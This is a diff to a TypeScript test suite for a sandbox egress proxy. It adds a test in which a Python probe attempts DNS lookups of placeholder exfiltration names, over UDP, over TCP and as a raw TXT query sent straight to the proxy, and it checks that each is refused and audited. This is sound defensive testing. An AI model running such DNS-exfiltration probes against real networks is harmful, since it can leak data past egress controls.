@@ -55,7 +55,7 @@ async function waitFor<T>(what: string, ms: number, probe: () => T | undefined |
  * The allow-list, end to end, with only test-made targets: an internal network holding two
  * servers, which the egress proxy joins. The plugin may reach one of them, through the
  * proxy, at most two connections at a time; nothing else. Revoking a host cuts the tunnels
- * open to it.
+ * open to it; DNS queries are answered by the proxy alone, and audited.
  */
 describe('network allow-list through the egress proxy', () => {
   let network: Dockerode.Network;
@@ -323,6 +323,57 @@ time.sleep(60)  # holds the tunnel to ALLOWED open; the test removes the contain
       if (client) await ignoreGone(client.remove({ force: true }));
       if (!detached) await egress.detach(key);
     }
+  });
+
+  it('answers DNS itself, NXDOMAIN for every name, and audits each query', async () => {
+    const main = `import json, os, socket, struct, subprocess, sys, time
+from urllib.parse import urlsplit
+proxy = urlsplit(os.environ["HTTP_PROXY"]).hostname
+out = {}
+
+def lookup(name):
+    t = time.monotonic()
+    try:
+        socket.getaddrinfo(name, 443)
+        res = "resolved"
+    except socket.gaierror as e:
+        res = {socket.EAI_NONAME: "EAI_NONAME", socket.EAI_AGAIN: "EAI_AGAIN"}.get(e.errno, str(e.errno))
+    return [res, round((time.monotonic() - t) * 1000)]
+
+out["udp"] = lookup("secret-data.exfil.example")
+# Over TCP: glibc asks the engine's resolver over TCP, which asks the proxy over TCP.
+tcp = subprocess.run([sys.executable, "-c", "import socket\\ntry:\\n    socket.getaddrinfo('tcp-data.exfil.example', 443)\\n    print('resolved')\\nexcept socket.gaierror as e:\\n    print(e.errno)"],
+                     env={**os.environ, "RES_OPTIONS": "use-vc"}, capture_output=True, text=True, timeout=20)
+out["tcp"] = tcp.stdout.strip()
+# Straight to the proxy's port 53, past the engine's resolver: a TXT query.
+q = struct.pack("!HHHHHH", 0x4c4d, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in [b"direct", b"exfil", b"example"]) + b"\\0" + struct.pack("!HH", 16, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.sendto(q, (proxy, 53))
+r = s.recv(512)
+ident, flags, qd, an, ns, ar = struct.unpack("!HHHHHH", r[:12])
+out["direct"] = {"id": ident, "rcode": flags & 15, "qr": flags >> 15, "answers": an + ns + ar}
+print(json.dumps(out))
+`;
+    const r = await runCaptured(networkPlugin('dns-probe', [`${allowed}:8080`], 2, main), { egress });
+    expect(r.exitCode, r.stderr).toBe(0);
+    const p = report<Record<string, unknown>>(r.stdout);
+    // NXDOMAIN from the proxy, at once: not a time-out waiting for a server that is not there.
+    expect(p.udp).toEqual(['EAI_NONAME', expect.any(Number)]);
+    expect((p.udp as [string, number])[1]).toBeLessThan(2_000);
+    expect(p.tcp).toBe(String(-2)); // EAI_NONAME
+    expect(p.direct).toEqual({ id: 0x4c4d, rcode: 3, qr: 1, answers: 0 });
+
+    const mine = decisions.filter((x) => x.plugin === 'dns-probe' && x.method === 'DNS');
+    for (const [name, qtype] of [
+      ['secret-data.exfil.example', 'A'],
+      ['tcp-data.exfil.example', 'A'],
+      ['direct.exfil.example', 'TXT'],
+    ]) {
+      expect(mine).toContainEqual(expect.objectContaining({ host: name, qtype, result: 'denied', reason: 'no-dns' }));
+    }
+    expect(mine).toContainEqual(expect.objectContaining({ host: 'tcp-data.exfil.example', transport: 'tcp' }));
+    expect(audit).toContainEqual({ who: 'dns-probe', action: 'dns', resource: 'secret-data.exfil.example', result: 'denied', reason: 'no-dns (A)', code: 'LM_EGRESS_DENIED' });
   });
 
   it('removes the plugin network after the run', async () => {
